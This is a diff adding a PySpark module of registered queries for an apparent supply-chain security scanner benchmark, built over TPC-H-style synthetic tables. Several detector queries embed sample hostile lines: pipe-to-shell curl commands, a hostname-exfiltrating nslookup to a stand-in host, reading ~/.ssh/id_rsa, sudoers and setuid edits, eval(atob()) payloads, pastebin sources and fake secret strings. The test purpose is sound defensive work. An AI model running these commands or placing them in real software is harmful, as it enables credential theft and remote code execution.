@@ -1,0 +1,435 @@
+"""The registered queries: each composes operators over whole tables."""
+
+from __future__ import annotations
+
+from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from ..functions import names as N
+from ..functions import rules as R
+from ..functions import scoring as S
+from ..functions import versions as V
+from ..operators import advisories as A
+from ..operators import files as FI
+from ..operators import heuristics as H
+from ..operators import reach as RE
+from ..operators import reports as RP
+from ..operators import risk as K
+from ..operators import scripts as SC
+from ..operators import snapshots as SN
+from ..schema import CAPABILITIES, capability_dim
+from ..sources import lockfiles as L
+from ..streaming import audit
+from . import derived as D
+
+KEY = ["ecosystem", "name", "version"]
+T = D.table
+
+
+def _longs(df: DataFrame, *cols: str) -> DataFrame:
+    return df.withColumns({c: F.col(c).cast("long") for c in cols})
+
+
+def _verdicts(spark: SparkSession, d: str) -> DataFrame:
+    deps = D.dependencies(spark, d).select("project", *KEY, "direct").distinct()
+    number = F.substring("name", 5, 20).cast("long")
+    reach = F.when(F.col("ecosystem").isin("crates", "maven"), "unknown").when(number % 2 == 0, "used").otherwise("unused")
+    score = K.scores(K.risk_flags(D.fingerprints(spark, d)), ["ecosystem", "name"])
+    rows = A.max_severity(deps.withColumn("reachability", reach), D.advisories(spark, d)).join(score, ["ecosystem", "name"], "left")
+    return K.ci_verdicts(rows.withColumn("score", F.coalesce("score", F.lit(0))))
+
+
+def dependency_verdicts(spark, d):
+    v = _verdicts(spark, d)
+    return _longs(v.select("project", *KEY, "direct", "score", "severity", "reachability", S.verdict_name(F.col("verdict")).alias("verdict")), "score", "severity")
+
+
+def ci_gate(spark, d):
+    return RP.gate_report(_verdicts(spark, d), 3, ["project"])
+
+
+def ci_findings(spark, d):
+    return RP.findings(_verdicts(spark, d), 3).select("project", *KEY, "verdict")
+
+
+def verdict_cube(spark, d):
+    return _longs(RP.verdict_cube(_verdicts(spark, d)), "verdict")
+
+
+def max_severity(spark, d):
+    return _longs(A.max_severity(D.dependencies(spark, d).select(*KEY).distinct(), D.advisories(spark, d)).select(*KEY, "severity", "n_advisories"), "severity")
+
+
+def advisory_merge(spark, d):
+    osv = D.advisories(spark, d)
+    ghsa = osv.where("p_partkey % 5 < 3").withColumns({"id": F.when(F.col("p_partkey") % 2 == 0, F.col("id")).otherwise(F.concat(F.lit("GHSA-"), "p_partkey")), "source": F.lit("ghsa")})
+    return A.merge_by_id(osv, ghsa).select("ecosystem", "name", "id", "source")
+
+
+def advisory_merge_alias(spark, d):
+    feed = D.advisories(spark, d).withColumns({"name": F.concat(F.lit("group-"), F.col("p_partkey") % 100), "position": F.col("p_partkey")})
+    return A.merge_by_alias(feed)
+
+
+def epss_enrich(spark, d):
+    adv = D.advisories(spark, d).withColumn("aliases", F.array(F.concat(F.lit("CVE-2024-"), F.col("p_partkey") % 40)))
+    adv = adv.withColumn("key", F.col("id")).withColumn("id", F.concat(F.lit("GHSA-x"), "p_partkey"))
+    epss = T(spark, d, "part").select((F.col("p_partkey") % 40).alias("k")).distinct().select(
+        F.concat(F.lit("CVE-2024-"), "k").alias("cve"), F.when(F.col("k") % 7 == 0, "n/a").otherwise((F.col("k") / 100).cast("string")).alias("epss"), F.lit("0.5").alias("percentile"))
+    return A.epss_enrich(adv, epss, ["p_partkey"]).select("ecosystem", "name", F.col("key").alias("id"), "epss")
+
+
+def kev_enrich(spark, d):
+    part = T(spark, d, "part")
+    kev = part.where("p_partkey % 11 = 0").select(F.concat(F.lit("CVE-2024-"), "p_partkey").alias("cve")).union(spark.createDataFrame([("GHSA-8",)], "cve string"))
+    return A.kev_enrich(D.advisories(spark, d), kev).select("ecosystem", "name", "id", "in_kev")
+
+
+def cvss_score(spark, d):
+    pick = lambda xs, e: f"element_at(array({','.join(repr(x) for x in xs)}), cast({e} + 1 as int))"
+    vector = "concat(if(p_partkey % 10 = 0, 'CVSS:4.0', 'CVSS:3.1'), '/AV:', {}, '/AC:', {}, '/PR:', {}, '/UI:', {}, '/S:', {}, '/C:', {}, '/I:', {}, '/A:', {})".format(
+        pick("NALP", "p_size % 4"), pick("LH", "p_size % 2"), pick("NLH", "p_partkey % 3"), pick("NR", "p_partkey % 2"), pick("UC", "(p_partkey div 3) % 2"),
+        pick("HLN", "p_size % 3"), pick("HLN", "(p_size div 2) % 3"), pick("HLN", "(p_partkey div 5) % 3"))
+    return T(spark, d, "part").select("p_partkey", S.cvss_base_score(F.expr(vector)).alias("base_score"))
+
+
+def osv_parse(spark, d):
+    """Advisories written as OSV JSON and parsed back."""
+    adv = D.advisories(spark, d)
+    event = F.array(F.struct(F.lit("0").alias("introduced"), F.lit("").alias("fixed")), F.struct(F.lit(None).cast("string").alias("introduced"), F.col("fixed_in").alias("fixed")))
+    doc = F.struct("id", "aliases", F.lit("").alias("summary"), F.concat("summary", F.lit("\nmore")).alias("details"), F.struct(F.col("severity")).alias("database_specific"),
+                   F.array(F.struct(F.array(F.struct(F.lit("GIT").alias("type"), F.array(F.struct(F.lit("c0ffee").alias("fixed"))).alias("events"))).alias("ranges")), F.struct(F.array(F.struct(F.lit("SEMVER").alias("type"), F.transform(event, lambda e: F.struct(e["fixed"].alias("fixed"))).alias("events"))).alias("ranges"))).alias("affected"))
+    return A.parse_osv(adv.select("ecosystem", "name", F.to_json(doc).alias("json"))).select("ecosystem", "name", "id", "summary", "fixed_in", "severity")
+
+
+def version_order(spark, d):
+    v = V.parse_version(F.col("version"))
+    return D.dependencies(spark, d).groupBy("ecosystem", "name").agg(F.max_by("version", v).alias("newest"), F.min_by("version", v).alias("oldest"), F.count_distinct("version").alias("n_versions"))
+
+
+RANGES = ["^1.2.0", "~2.3", ">=1.0.0 <3.0.0 || 4.x", "!=3.1.4", "> 1.0", "*", "2.1.3", "^0.3"]
+
+
+def version_satisfies(spark, d):
+    rules = spark.createDataFrame([(r,) for r in RANGES], "range string").withColumn("compiled", V.compile_range(F.col("range")))
+    versions = D.dependencies(spark, d).select("version").distinct().withColumn("v", V.parse_version(F.col("version")))
+    each = versions.withColumn("range", F.explode(F.array(*map(F.lit, RANGES))))
+    return each.join(F.broadcast(rules), "range").select("version", "range", (F.col("range").isin("", "*") | V.matches(F.col("compiled"), F.col("v"))).alias("satisfies"))
+
+
+def max_satisfying(spark, d):
+    rows = D.dependencies(spark, d).select(*KEY).distinct().where(~F.contains("version", F.lit("-")))
+    ok = rows.where(V.version_satisfies(F.lit(">=1.2 <4"), F.col("version")))
+    return ok.groupBy("ecosystem", "name").agg(F.max_by("version", V.parse_version(F.col("version"))).alias("best"))
+
+
+def fix_plan(spark, d):
+    return K.fix_plan(D.dependencies(spark, d).select(*KEY).distinct(), D.advisories(spark, d))
+
+
+def upgrade_commands(spark, d):
+    return D.advisories(spark, d).where("fixed_in <> ''").select("id", K.upgrade_command(F.col("ecosystem"), F.col("name"), F.col("fixed_in")).alias("command"))
+
+
+def risk_scores(spark, d):
+    return K.scores(K.risk_flags(D.fingerprints(spark, d)))
+
+
+def risk_flags(spark, d):
+    return _longs(K.risk_flags(D.fingerprints(spark, d)), "weight")
+
+
+def allowlisted_scores(spark, d):
+    flags = K.apply_allowlist(K.risk_flags(D.fingerprints(spark, d)), D.allow_rules(spark))
+    return flags.groupBy(*KEY).agg(F.sum(F.when(F.col("suppressed"), 0).otherwise(F.col("weight"))).alias("score"), F.count_if("suppressed").alias("n_suppressed"))
+
+
+def allowlist_matches(spark, d):
+    return _longs(K.match_all(D.fingerprints(spark, d).select(*KEY), D.allow_rules(spark)), "rule_ord", "match_rank")
+
+
+def drift_scores(spark, d):
+    """Two versions of each part's package: scans that differ by its numbers."""
+    p = T(spark, d, "part")
+    pairs = p.selectExpr(
+        "p_partkey", "p_partkey % 13 <> 0 as prev_analyzed", "true as next_analyzed",
+        "array_compact(array(if(p_size % 3 = 0, 'shell-spawn', null), 'install-hook-suspicious')) as prev_capabilities",
+        "array_compact(array(if(p_size % 2 = 1, 'shell-spawn', null), if(p_size % 5 = 0, 'net-egress', null), 'install-hook-suspicious', if(p_partkey % 4 < 2, 'install-hook-exec', null))) as next_capabilities",
+        "if(p_partkey % 4 = 1, map('install', 'aa'), map('build', 'bb')) as prev_hooks",
+        "case p_partkey % 4 when 0 then map('install', 'cc') when 1 then map('install', 'dd') when 2 then map('build', 'bb') else map('build', '') end as next_hooks",
+        "cast((p_size % 7) * 10 as bigint) as prev_size", "p_partkey % 100 as next_size",
+    )
+    return K.scores(K.drift_flags(pairs, ["p_partkey"]), ["p_partkey"])
+
+
+def gate_policy(spark, d):
+    v = _verdicts(spark, d).withColumns({"verified": F.col("direct"), "uncertain_parse": F.contains("version", F.lit("-"))})
+    return K.gate(v, 2).groupBy("ecosystem", "action").agg(F.count(F.lit(1)).alias("n"))
+
+
+def snapshot_diff(spark, d):
+    deps = D.dependencies(spark, d).withColumn("o", F.col("project") * 10 + F.col("l_linenumber"))
+    old = F.col("l_shipdate") < F.lit("1995-06-17").cast("timestamp")
+    return SN.diff(deps.where(old), deps.where(~old), "o")
+
+
+def snapshot_rescan(spark, d):
+    adv = D.advisories(spark, d)
+    return SN.rescan(adv.where("p_partkey % 4 = 1"), adv)
+
+
+def snapshot_show(spark, d):
+    deps = D.dependencies(spark, d).withColumn("direct", F.col("direct") & (F.substring("name", 5, 20).cast("long") % 2 == 0))
+    return SN.shown(deps).groupBy("project").agg(F.count(F.lit(1)).alias("shown"))
+
+
+def typosquats(spark, d):
+    word = F.lower(F.split_part("p_name", F.lit(" "), F.lit(1)))
+    extra = spark.createDataFrame([(x,) for x in ("lodahs", "reqests", "expres", "lodash", "axois", "raect")], "name string")
+    part = T(spark, d, "part")
+    packages = part.select(F.concat(word, (F.col("p_partkey") % 7)).alias("name")).union(extra).select(F.lit("npm").alias("ecosystem"), "name")
+    known = spark.createDataFrame([(x,) for x in ("lodash", "express", "axios", "requests", "react")], "name string")
+    top = known.union(part.where("p_partkey % 3 = 0").select(word)).distinct().select(F.lit("npm").alias("ecosystem"), "name")
+    return H.typosquats(packages, top)
+
+
+def maintainer_signals(spark, d):
+    got = H.hijack_signals(H.maintainer_signals(D.releases(spark, d)), F.lit("1998-08-02").cast("timestamp"))
+    return _longs(got.select("name", "version", "hijack_points", "hijack_risk", "maintainer_changed"), "hijack_points")
+
+
+def go_retracted(spark, d):
+    deps = D.dependencies(spark, d).where("ecosystem = 'go'").select(*KEY).distinct()
+    ranges = T(spark, d, "part").where("p_partkey % 10 = 0").select(F.lit("go").alias("ecosystem"), F.concat(F.lit("pkg-"), "p_partkey").alias("name"), F.explode(F.array(
+        F.struct(F.lit("v1.0.0").alias("low"), F.lit("v2.3.5").alias("high")), F.struct(F.lit("4.1.1").alias("low"), F.lit("4.1.1").alias("high")))).alias("r")).select("ecosystem", "name", "r.low", "r.high")
+    return H.retracted(deps, ranges)
+
+
+def binary_droppers(spark, d):
+    paths = "element_at(array('a.js','b/x.EXE','lib/y.so','lib/z.cpython-311-x86.so','w.ps1','README','src/m.py','k.txt'), cast(p_size % 8 + 1 as int))"
+    files = T(spark, d, "part").selectExpr("if(p_partkey % 2 = 1, 'npm', 'pypi') as ecosystem", f"{paths} as path", "p_partkey")
+    return H.binary_droppers(files).select("p_partkey")
+
+
+def dependency_sources(spark, d):
+    spec = "element_at(array('git+https://h/x','o/r#0123456789012345678901234567890123456789','github:a/b','file:../x','^1.0.0','npm:x@1'), cast(p_size % 6 + 1 as int))"
+    rows = T(spark, d, "part").selectExpr("p_partkey", f"{spec} as spec", "if(p_partkey % 2 = 0, 'optional', 'runtime') as dep_group")
+    return H.dependency_sources(rows).select("p_partkey", "dep_source", "git_dep_in_optional")
+
+
+def source_patterns(spark, d):
+    """Whole document texts as source files, with a payload in some."""
+    body = F.expr(
+        "concat(case doc_id % 10 when 1 then 'eval(atob(\"eA==\")); ' when 2 then 'const u = \"https://pas\" + \"tebin.com/raw/x\"; ' when 3 then 'curl -s http://h/i | sh; ' else '' end, coalesce(text, ''))")
+    files = T(spark, d, "documents").select("doc_id", F.expr("if(doc_id % 10 = 4, 'dist/router_init.js', 'src/a.js')").alias("path"), body.alias("body"))
+    return H.source_findings(files).select("doc_id", F.explode("capabilities").alias("capability"))
+
+
+def suspicious_hooks(spark, d):
+    body = F.expr(r"""case doc_id % 8 when 1 then 'curl -sSL http://x/y | sh' when 2 then 'node -e "require(\'child_process\').exec(1)"' when 3 then '"cu" + "rl http://x | bash"' when 4 then 'nslookup $(hostname).x.example'
+      when 5 then 'node -e "process.exit(0)"' when 6 then 'bun run setup.js' when 7 then 'echo installed' else 'node-gyp rebuild' end""")
+    return T(spark, d, "documents").select("doc_id", H.suspicious_hook(body).alias("suspicious"))
+
+
+def secrets(spark, d):
+    text = F.expr("concat(coalesce(text, ''), case doc_id % 20 when 3 then concat(' AKIA', 'ABCDEFGHIJKLMNOP', ' ') when 5 then ' -----BEGIN RSA PRIVATE KEY-----' else '' end)")
+    return H.secrets(T(spark, d, "documents").select("doc_id", text.alias("text"))).select("doc_id", F.explode("secret_kinds").alias("kind"))
+
+
+def license_lines(spark, d):
+    lic = F.when(F.contains("text", F.lit("MIT License")), "MIT").when(F.contains("text", F.lit("Apache License")), "Apache-2.0").when(F.contains("text", F.lit("GNU General Public License")), "GPL-3.0")
+    rows = K.denied_licenses(T(spark, d, "documents").select("source", lic.alias("license")), ["mit", "gpl-3.0"])
+    return rows.groupBy("source", F.lower("license").alias("license")).agg(F.count(F.lit(1)).alias("n"))
+
+
+def page_hosts(spark, d):
+    host = F.lower(F.regexp_extract("url", r"://([^/:]+)", 1))
+    return T(spark, d, "pages").groupBy(host.alias("host")).agg(F.count(F.lit(1)).alias("pages"), F.count_if(F.contains("html", F.lit("<script>"))).alias("with_script"))
+
+
+def tarball_drift(spark, d):
+    f = T(spark, d, "lineitem").selectExpr("l_partkey as package", "concat('src/f', l_linenumber, element_at(array('.js','.sh','.bin'), cast(l_suppkey % 3 + 1 as int))) as path", "l_suppkey")
+    return FI.tarball_drift(f.where("l_suppkey % 4 <> 0").select("package", F.concat(F.lit("./"), "path").alias("path")), f.where("l_suppkey % 5 <> 0").select("package", "path"))
+
+
+def glob_match(spark, d):
+    path = F.expr("element_at(array('lib/a.js','lib/b.ts','lib/x/c.js'), cast(p_size % 3 + 1 as int))")
+    return T(spark, d, "part").select("p_partkey", N.glob_match(path, F.lit("*/*.js")).alias("in_star"), N.glob_match(path, F.lit("lib/**")).alias("in_deep"))
+
+
+def layer_overlay(spark, d):
+    e = T(spark, d, "lineitem").selectExpr(
+        "l_partkey as image", "cast(l_suppkey % 4 as int) as layer", "concat('d', l_linenumber % 3) as dir", "concat('d', l_linenumber % 3, '/f', l_orderkey % 5) as path",
+        "case when l_quantity < 5 then 'whiteout' when l_quantity > 47 then 'opaque' else 'file' end as kind").distinct()
+    return FI.overlay(e.select("image", "layer", "kind", F.when(F.col("kind") == "opaque", F.col("dir")).otherwise(F.col("path")).alias("path"))).select("image", "path", "layer")
+
+
+def image_findings(spark, d):
+    files = T(spark, d, "part").selectExpr("p_partkey as image", "element_at(array('tmp/x.sh','usr/bin/.hid','app/package.json','etc/hosts'), cast(p_size % 4 + 1 as int)) as path", "p_size % 4 = 1 as executable")
+    return FI.image_findings(files)
+
+
+def dep_keys(spark, d):
+    rows = T(spark, d, "part").selectExpr("p_partkey", "element_at(array('js','js','py','go','rust','java','ruby'), cast(p_size % 7 + 1 as int)) as language",
+                                          "element_at(array('@s/pkg/sub','node:fs','os.path','github.com/a/b','serde::de','java.util.List','rack/utils'), cast(p_size % 7 + 1 as int)) as module")
+    return rows.select("p_partkey", N.dep_key(F.col("language"), F.col("module")).alias("dep_key"))
+
+
+def project_reachability(spark, d):
+    part = T(spark, d, "part")
+    js = part.where("p_partkey % 2 = 0").select(F.lit("js").alias("language"), F.concat(F.lit("pkg-"), "p_partkey", F.lit("/lib")).alias("module"))
+    py = part.where("p_partkey % 3 = 0").select(F.lit("py").alias("language"), F.concat(F.lit("pkg_"), "p_partkey", F.lit(".sub")).alias("module"))
+    go = spark.createDataFrame([("go", "github.com/x/y")], "language string, module string")
+    return RE.project_reachability(D.dependencies(spark, d).select("ecosystem", "name").distinct(), js.union(py).union(go))
+
+
+def functions_reaching(spark, d):
+    sites = T(spark, d, "lineitem").selectExpr("concat('file', l_partkey % 50) as file", "concat('f', l_suppkey % 20) as function", "concat('m', l_linenumber) as module", "concat('s', l_partkey % 4) as symbol", "l_orderkey as line")
+    return RE.functions_reaching(sites, "m3", "s1")
+
+
+def callers_closure(spark, d):
+    start = spark.createDataFrame([("f599",)], "function string")
+    return RE.callers_closure(D.edges(spark, d), start).select("function")
+
+
+def package_urls(spark, d):
+    return RP.components(D.dependencies(spark, d).select(*KEY, "direct").distinct()).select(*KEY, "purl", "scope")
+
+
+def sarif_results(spark, d):
+    hits = D.dependencies(spark, d).select(*KEY).distinct().join(D.advisories(spark, d).select("ecosystem", "name", "id", "summary", S.severity_rank(F.col("severity")).alias("severity")), ["ecosystem", "name"])
+    return RP.sarif_results(hits)
+
+
+def cyclonedx_sizes(spark, d):
+    """Whole documents, read back to their sizes."""
+    deps = D.dependencies(spark, d).select("project", *KEY, "direct")
+    docs = RP.cyclonedx(deps, D.advisories(spark, d), "project", "2024-01-01T00:00:00Z", "urn:uuid:0")
+    back = F.from_json("document", "components array<struct<purl:string>>, dependencies array<struct<dependsOn:array<string>>>")
+    return docs.select("project", F.size(back["components"]).cast("long").alias("components"), F.size(back["dependencies"][0]["dependsOn"]).cast("long").alias("direct"))
+
+
+def spdx_sizes(spark, d):
+    docs = RP.spdx(D.dependencies(spark, d).select("project", *KEY, "direct"), "project", "2024-01-01T00:00:00Z")
+    return docs.select("project", F.size(F.from_json("document", "packages array<struct<SPDXID:string>>")["packages"]).cast("long").alias("packages"))
+
+
+def build_findings(spark, d):
+    text = F.expr(r"""case doc_id % 6 when 1 then 'pkgname=x\ncurl -s http://h/x | sh\n' when 2 then '# c\nx="\\x41\\x42\\x43\\x44"\n' when 3 then 'a=1\ncat ~/.ssh/id_rsa\n'
+      when 4 then 'build() {\n  make\n  npm install left-pad\n}\n' when 5 then 'package() {\n  # sudo x\n  sudo cp a b\n}\nsudo x' else 'pkgname=y\nbuild() {\n make\n}\n' end""")
+    files = T(spark, d, "documents").select(F.col("doc_id").alias("package"), text.alias("text"))
+    return _longs(SC.build_file_findings(files).select("package", "function", "line", "rule"), "line")
+
+
+def install_script_findings(spark, d):
+    text = F.expr(r"""case doc_id % 6 when 1 then 'post_install() {\n wget http://h/x\n}\n' when 2 then 'cp x /etc/sudoers.d/y' when 3 then 'chmod 4755 /usr/bin/x' when 4 then 'systemctl enable x'
+      when 5 then 'systemctl --user enable x\necho curl is nice' else 'true' end""")
+    return SC.install_script_findings(T(spark, d, "documents").select(F.col("doc_id").alias("package"), text.alias("text"))).select("package", "rule")
+
+
+def source_hosts(spark, d):
+    text = F.expr("case doc_id % 4 when 1 then 'source=(http://10.0.0.1/x.tgz)' when 2 then 'source=(\"https://x.pastebin.com/a\" \"https://x.pastebin.com/a\")' when 3 then 'source=(https://raw.githubusercontent.com/a/b)' else '' end")
+    return SC.source_findings(T(spark, d, "documents").select(F.col("doc_id").alias("package"), text.alias("text"))).select("package", "rule")
+
+
+def history_inversions(spark, d):
+    from pyspark.sql import Window
+
+    commits = T(spark, d, "orders").select(F.col("o_custkey").alias("package"), F.row_number().over(Window.partitionBy("o_custkey").orderBy("o_orderkey")).alias("position"), F.unix_timestamp("o_orderdate").alias("commit_date"))
+    return _longs(SC.history_findings(commits).select("package", "at"), "at")
+
+
+def _entries(spark, d):
+    return T(spark, d, "part").selectExpr("p_partkey as package", "element_at(array('.INSTALL','./etc/ld.so.preload','/usr/bin/x','home/u/.bashrc','etc/cron.d/x'), cast(p_size % 5 + 1 as int)) as path", "if(p_size % 5 = 2, 2541, 420) as mode")
+
+
+def package_entries(spark, d):
+    return _longs(SC.entry_findings(_entries(spark, d)).select("package", "rule", "severity"), "severity")
+
+
+def package_verdicts(spark, d):
+    return SC.verdicts(SC.entry_findings(_entries(spark, d)))
+
+
+def workflow_findings(spark, d):
+    text = F.expr(r"""concat('name: x\n', if(doc_id % 5 = 0, 'permissions: write-all\n', 'on: push\n'), 'jobs:\n  steps:\n', if(doc_id % 5 = 1, '    - uses: some/action@v1\n', '    - uses: a/b@0123456789012345678901234567890123456789\n'), '    - run: |\n        make\n',
+      case doc_id % 5 when 2 then '        curl http://h/x | bash\n' when 3 then '        echo ${{ github.event.issue.title }}\n' else '        true\n' end, '    - name: base64 -d\n')""")
+    return _longs(SC.workflow_findings(T(spark, d, "documents").select(F.col("doc_id").alias("file"), text.alias("text"))).select("file", "line", "rule"), "line")
+
+
+def _lock(spark, d, file_name: str, line: str, sep: str = "\n", head: str = "", foot: str = "") -> DataFrame:
+    """A lockfile an order, written from its line items."""
+    rows = T(spark, d, "lineitem").selectExpr("l_orderkey", "l_linenumber", f"{line} as line")
+    body = F.array_join(F.transform(F.sort_array(F.collect_list(F.struct("l_linenumber", "line"))), lambda x: x["line"]), sep)
+    return rows.groupBy("l_orderkey").agg(body.alias("body")).select(F.concat(F.lit("p"), "l_orderkey", F.lit(f"/{file_name}")).alias("path"), F.concat(F.lit(head), "body", F.lit(foot)).alias("text"))
+
+
+def requirements_lock(spark, d):
+    line = "if(l_linenumber = 3, concat('loose', l_partkey, '>=1  # no pin'), concat('pkg-', l_partkey, '[extra]==1.', l_linenumber, '.', l_suppkey, ' ; python_version > \"3\"  # c'))"
+    return L.requirements(_lock(spark, d, "requirements.txt", line, head="# head\n-r base.txt\n")).select("path", "name", "version")
+
+
+def go_sum_lock(spark, d):
+    m = "concat('example.com/m', l_partkey, ' v1.', l_linenumber, '.0"
+    return L.go_sum(_lock(spark, d, "go.sum", f"concat({m} h1:abc='), '\\n', {m}/go.mod h1:abc='))")).select("path", "name", "version")
+
+
+def gradle_lock(spark, d):
+    return L.gradle(_lock(spark, d, "gradle.lockfile", "concat('org.x:a', l_partkey, ':2.', l_linenumber, '=compileClasspath')", head="# x\n", foot="\nempty=annotationProcessor\n")).select("path", "name", "version")
+
+
+def cargo_lock(spark, d):
+    line = r"""concat('[[package]]\nname = "c', l_partkey, '"\nversion = "0.', l_linenumber, '.1"\ndependencies = [\n "x",\n]\n')"""
+    return L.cargo(_lock(spark, d, "Cargo.lock", line, head="version = 3\n\n")).select("path", "name", "version")
+
+
+def npm_lock(spark, d):
+    line = """concat(if(l_linenumber = 1, concat('"":{"dependencies":{"n', l_partkey, '":"*"}},'), ''), '"node_modules/z/node_modules/n', l_partkey, if(l_linenumber = 1, '', concat('/node_modules/n', l_partkey)), '":{"version":"3.', l_linenumber, '.0"}')"""
+    return L.npm(_lock(spark, d, "package-lock.json", line, sep=",", head='{"lockfileVersion":3,"packages":{', foot="}}")).select("path", "name", "version", "direct")
+
+
+def gem_lock(spark, d):
+    """A format with sections, through the Arrow parser."""
+    rows = T(spark, d, "lineitem").selectExpr("l_orderkey", "l_linenumber", "concat('    g', l_partkey, ' (4.', l_linenumber, ')\n      sub (>= 1)') as line", "if(l_linenumber = 1, concat('  g', l_partkey, '!'), null) as dep")
+    pick = lambda c: F.array_join(F.transform(F.sort_array(F.collect_list(F.struct("l_linenumber", F.col(c).alias("x")))), lambda x: x["x"]), "\n")
+    files = rows.groupBy("l_orderkey").agg(pick("line").alias("specs"), pick("dep").alias("deps"))
+    files = files.select(F.concat(F.lit("p"), "l_orderkey", F.lit("/Gemfile.lock")).alias("path"), F.concat(F.lit("GEM\n  remote: x\n  specs:\n"), "specs", F.lit("\n\nDEPENDENCIES\n"), "deps", F.lit("\n")).alias("text"))
+    return L.stateful(files).select("path", "name", "version", "direct")
+
+
+def audit_tail(spark, d):
+    return T(spark, d, "events").orderBy(F.desc("ts"), F.desc("event_id")).limit(50).select("event_id", "event_type")
+
+
+def audit_windows(spark, d):
+    return audit.windowed_counts(T(spark, d, "events"), "event_type")
+
+
+def audit_sessions(spark, d):
+    return audit.sessions(T(spark, d, "events"), "user_id").select("user_id", "n", "session_start")
+
+
+def fleet(spark, d):
+    rows = T(spark, d, "lineitem").selectExpr("l_orderkey as task", "element_at(array('ast','cve','license','unused-deps'), cast(l_linenumber % 4 + 1 as int)) as check", "l_quantity > 40 as failed")
+    return K.fleet(rows)
+
+
+def image_references(spark, d):
+    ref = F.expr("element_at(array('nginx','a/b:1.2','ghcr.io/o/r:v3@sha256:00','localhost:5000/x'), cast(p_size % 4 + 1 as int))")
+    return T(spark, d, "part").select("p_partkey", N.image_reference(ref).alias("r")).select("p_partkey", "r.registry", "r.repository", "r.tag")
+
+
+def capability_docs(spark, d):
+    return _longs(capability_dim(spark).select("capability", "weight"), "weight")
+
+
+NAMES = [
+    dependency_verdicts, ci_gate, ci_findings, verdict_cube, max_severity, advisory_merge, advisory_merge_alias, epss_enrich, kev_enrich, cvss_score, osv_parse, version_order, version_satisfies, max_satisfying, fix_plan,
+    upgrade_commands, risk_scores, risk_flags, allowlisted_scores, allowlist_matches, drift_scores, gate_policy, snapshot_diff, snapshot_rescan, snapshot_show, typosquats, maintainer_signals, go_retracted, binary_droppers,
+    dependency_sources, source_patterns, suspicious_hooks, secrets, license_lines, page_hosts, tarball_drift, glob_match, layer_overlay, image_findings, dep_keys, project_reachability, functions_reaching, callers_closure,
+    package_urls, sarif_results, cyclonedx_sizes, spdx_sizes, build_findings, install_script_findings, source_hosts, history_inversions, package_entries, package_verdicts, workflow_findings, requirements_lock, go_sum_lock,
+    gradle_lock, cargo_lock, npm_lock, gem_lock, audit_tail, audit_windows, audit_sessions, fleet, image_references, capability_docs,
+]
+QUERIES = {f.__name__: f for f in NAMES}
+del CAPABILITIES, R
